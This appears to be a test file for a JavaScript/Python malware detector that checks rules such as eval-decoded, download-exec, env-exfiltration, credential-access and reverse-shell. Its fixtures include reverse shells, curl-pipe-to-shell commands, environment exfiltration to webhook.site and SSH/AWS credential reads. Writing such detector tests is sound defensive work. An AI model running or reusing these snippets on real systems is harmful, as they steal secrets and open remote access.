import { beforeAll, describe, expect, it } from "vitest";
import { analyzeJs, analyzePython } from "../../src/detect/code.js";
import { loadParsers } from "../../src/detect/treesitter.js";

beforeAll(async () => {
  await loadParsers();
});

const js = (s: string) => analyzeJs(s).map((h) => h.rule);
const py = (s: string) => analyzePython(s).map((h) => h.rule);

describe("analyzeJs", () => {
  it.each([
    ["eval(atob('YWxlcnQoMSk='))", "code.eval-decoded"],
    ["const c = Buffer.from(x, 'base64').toString(); new Function(c)();", "code.eval-decoded"],
    ["require('vm').runInNewContext(Buffer.from(p, 'hex').toString())", "code.eval-decoded"],
    [
      "const cp = require('child_process'); cp.exec('curl -s https://example.invalid/a | sh')",
      "shell.download-exec",
    ],
    [
      "fetch('https://webhook.site/x', {method:'POST', body: JSON.stringify(process.env)})",
      "code.env-exfiltration",
    ],
    ["const fs=require('fs');fs.readFileSync(os.homedir()+'/.ssh/id_rsa')", "code.credential-access"],
    [
      "const net=require('net');const {spawn}=require('child_process');const sh=spawn('/bin/sh');const c=new net.Socket();c.connect(1,'203.0.113.1');",
      "code.reverse-shell",
    ],
    ["fetch('http://203.0.113.8/c2')", "code.suspicious-endpoint"],
  ])("flags %s", (src, rule) => {
    expect(js(src)).toContain(rule);
  });
  it("parses TypeScript through the tolerant parser", () => {
    expect(js("const x: string = atob(p) as string;\neval(atob(p) as string);")).toContain(
      "code.eval-decoded",
    );
  });
  it.each([
    "import { execFile } from 'node:child_process'; execFile('git', ['status']);",
    "const key = process.env.API_KEY; await fetch('https://api.example.com', { headers: { key } });",
    "spawn(cmd, args, { env: { ...process.env, FOO: '1' } })",
    "setTimeout(() => done(), 10)",
  ])("does not flag %s above low", (src) => {
    expect(
      analyzeJs(src)
        .filter((h) => h.confidence !== "low")
        .map((h) => h.rule),
    ).toEqual([]);
  });
});

describe("analyzePython", () => {
  it.each([
    ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code.eval-decoded"],
    ["import zlib,base64\np = zlib.decompress(base64.b64decode(x))\nexec(p)", "code.eval-decoded"],
    ["import marshal\nexec(marshal.loads(base64.b64decode(x)))", "code.eval-decoded"],
    [
      "import subprocess\nsubprocess.run('curl -s https://example.invalid/a | bash', shell=True)",
      "shell.download-exec",
    ],
    ["import os\nos.system('wget -qO- https://example.invalid/x | sh')", "shell.download-exec"],
    [
      "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
      "code.reverse-shell",
    ],
    [
      "import os,requests\nrequests.post('https://example.invalid', json=dict(os.environ))",
      "code.env-exfiltration",
    ],
    ["open(os.path.expanduser('~/.aws/credentials')).read()", "code.credential-access"],
  ])("flags %s", (src, rule) => {
    expect(py(src)).toContain(rule);
  });
  it.each([
    "import os\nkey = os.environ.get('API_KEY')\nprint(key is not None)",
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
    "import json\nprint(json.dumps({'a': 1}))",
  ])("does not flag %s above low", (src) => {
    expect(
      analyzePython(src)
        .filter((h) => h.confidence !== "low")
        .map((h) => h.rule),
    ).toEqual([]);
  });
});

describe("remote code and shells inside argument lists", () => {
  it.each([
    [
      "https.get('https://example.invalid/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });",
      "code.remote-eval",
    ],
    [
      "const { spawn } = require('child_process'); spawn('bash', ['-c', 'curl -s https://example.invalid/x | sh']);",
      "shell.download-exec",
    ],
  ])("JS: %s", (src, rule) => {
    expect(analyzeJs(src).map((h) => h.rule)).toContain(rule);
  });
  it.each([
    ["import requests\nexec(requests.get('https://example.invalid/p.py').text)", "code.remote-eval"],
    ["import requests\ncode = requests.get(u).text\nexec(code)", "code.remote-eval"],
    [
      "import subprocess\nsubprocess.Popen(['bash', '-c', 'wget -qO- https://example.invalid/x | bash'])",
      "shell.download-exec",
    ],
    ["import browser_cookie3\ncj = browser_cookie3.chrome()", "code.credential-access"],
  ])("Python: %s", (src, rule) => {
    expect(analyzePython(src).map((h) => h.rule)).toContain(rule);
  });
});

describe("credential env vars and templated endpoints", () => {
  it("tags secret-named env reads as credential sources (for correlation)", () => {
    expect(
      analyzeJs("const t = process.env.GITHUB_TOKEN;").find((h) => h.rule === "code.secret-env")?.tags,
    ).toEqual(["cred-source"]);
    expect(analyzePython("import os\nk = os.getenv('OPENAI_API_KEY')").map((h) => h.rule)).toContain(
      "code.secret-env",
    );
    expect(analyzePython("import os\nh = os.getenv('HOME')").map((h) => h.rule)).not.toContain(
      "code.secret-env",
    );
  });
  it("treats a templated chat-API URL as low confidence and a hard-coded webhook as medium", () => {
    const templ = analyzeJs(
      `fetch(\`https://api.telegram.org/bot\${token}/sendMessage\`, { method: 'POST' })`,
    );
    expect(templ.find((h) => h.rule === "code.suspicious-endpoint")?.confidence).toBe("low");
    const fixed = analyzeJs("fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST' })");
    expect(fixed.find((h) => h.rule === "code.suspicious-endpoint")?.confidence).toBe("medium");
  });
  it("reads the host of http.request option objects", () => {
    expect(
      analyzeJs("require('https').request({ hostname: '198.51.100.7', path: '/c', method: 'POST' })").map(
        (h) => h.rule,
      ),
    ).toContain("code.suspicious-endpoint");
  });
});

describe("keyloggers", () => {
  it("flags pynput keyboard capture", () => {
    expect(
      analyzePython("from pynput import keyboard\nkeyboard.Listener(on_press=f).start()").map((h) => h.rule),
    ).toContain("code.credential-access");
  });
});

describe("remote eval needs data flow from the network", () => {
  it("eval of a computed string in a file that also fetches something else is only dynamic-eval", () => {
    const rules = analyzeJs("const wasm = await fetch(url);\nfunction make(func) { return eval(func); }").map(
      (h) => h.rule,
    );
    expect(rules).toContain("code.dynamic-eval");
    expect(rules).not.toContain("code.remote-eval");
  });
  it("vm.runInContext of a literal with a context argument is analysed as code, not flagged", () => {
    expect(analyzeJs("vm.runInContext('({ Object, Error })', ctx)").map((h) => h.rule)).toEqual([]);
  });
  it("eval of a fetched body is remote-eval", () => {
    expect(
      analyzeJs("const code = await (await fetch(u)).text();\neval(code);").map((h) => h.rule),
    ).toContain("code.remote-eval");
  });
});
